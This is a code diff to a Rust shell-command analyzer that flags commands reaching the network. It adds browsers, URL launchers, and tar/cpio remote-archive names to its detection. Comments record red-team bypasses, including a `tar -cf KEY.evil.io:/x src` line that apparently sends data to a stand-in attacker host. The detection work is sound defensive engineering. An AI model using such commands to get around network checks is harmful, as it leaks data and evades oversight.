@@ -26,6 +26,35 @@ use crate::pattern::WILD;
 
 /// Programs that connect to hosts named in their arguments (lowercased basenames).
 static REACHES: crate::shell::lists::Names = crate::shell::lists::Names::new(&[
+    // Browsers and URL launchers (red team, session 7: `chromium --headless --dump-dom URL`
+    // is an HTTP client; `python3 -m webbrowser URL` is read as `webbrowser URL`).
+    "firefox",
+    "firefox-esr",
+    "chromium",
+    "chromium-browser",
+    "google-chrome",
+    "google-chrome-stable",
+    "chrome",
+    "microsoft-edge",
+    "microsoft-edge-stable",
+    "msedge",
+    "brave",
+    "brave-browser",
+    "opera",
+    "vivaldi",
+    "safari",
+    "epiphany",
+    "qutebrowser",
+    "midori",
+    "falkon",
+    "x-www-browser",
+    "gnome-www-browser",
+    "sensible-browser",
+    "gvfs-open",
+    "explorer.exe",
+    "explorer",
+    "wslview",
+    "webbrowser",
     "ssh",
     "scp",
     "sftp",
@@ -158,6 +187,13 @@ static GIT_REMOTE: crate::shell::lists::Names = crate::shell::lists::Names::new(
 /// Adds the destinations of a network program's arguments to `e.urls`.
 pub fn destinations(e: &mut Effects, args: &[Vec<u8>]) {
     let n = e.program.as_str();
+    if matches!(
+        n,
+        "tar" | "gtar" | "dump" | "rdump" | "restore" | "rrestore" | "cpio"
+    ) {
+        remote_archives(e, args);
+        return;
+    }
     if n.starts_with("curl") {
         let resolver = args.iter().any(|a| {
             let t = text(a);
@@ -237,6 +273,60 @@ pub fn destinations(e: &mut Effects, args: &[Vec<u8>]) {
     }
     if e.urls.len() > before && e.net == Net::No {
         e.net = Net::Yes;
+    }
+}
+
+/// GNU tar, dump/restore and cpio read an archive name with a `:` before any `/` as
+/// `[user@]host:file` on a remote machine (the remote-tape protocol over rsh/ssh) unless
+/// `--force-local`: a send to that host (red team, session 7: `tar -cf KEY.evil.io:/x src`
+/// resolves and connects).
+fn remote_archives(e: &mut Effects, args: &[Vec<u8>]) {
+    if args.iter().any(|a| a.as_slice() == b"--force-local") {
+        return;
+    }
+    let mut names: Vec<&[u8]> = Vec::new();
+    for (k, a) in args.iter().enumerate() {
+        let next = args.get(k + 1).map(Vec::as_slice);
+        if let Some(v) = a.strip_prefix(b"--file=") {
+            names.push(v);
+        } else if a.as_slice() == b"--file" {
+            names.extend(next);
+        } else if a.starts_with(b"-") && !a.starts_with(b"--") && a.len() > 1 {
+            // `-f X`, `-czf X`, `-fX` (and cpio's `-F`/`-O`/`-I`).
+            let opts = &a[1..];
+            if let Some(i) = opts
+                .iter()
+                .position(|c| matches!(c, b'f' | b'F' | b'O' | b'I'))
+            {
+                if i + 1 == opts.len() {
+                    names.extend(next);
+                } else {
+                    names.push(&opts[i + 1..]);
+                }
+            }
+        } else if k == 0 && a.contains(&b'f') && a.iter().all(u8::is_ascii_alphabetic) {
+            // tar's old bundled form: `cf ARCHIVE …`.
+            names.extend(next);
+        }
+    }
+    for v in names {
+        if v.contains(&UNKNOWN) || v.contains(&WILD) {
+            e.urls.push(String::new());
+            e.net = Net::Yes;
+            continue;
+        }
+        let Some(i) = v.iter().position(|&b| b == b':') else {
+            continue;
+        };
+        if v[..i].contains(&b'/') || i == 0 {
+            continue;
+        }
+        let host = text(&v[..i]);
+        let host = host.rsplit('@').next().unwrap_or(&host).to_string();
+        if !host.is_empty() {
+            e.urls.push(format!("https://{host}"));
+            e.net = Net::Yes;
+        }
     }
 }
 
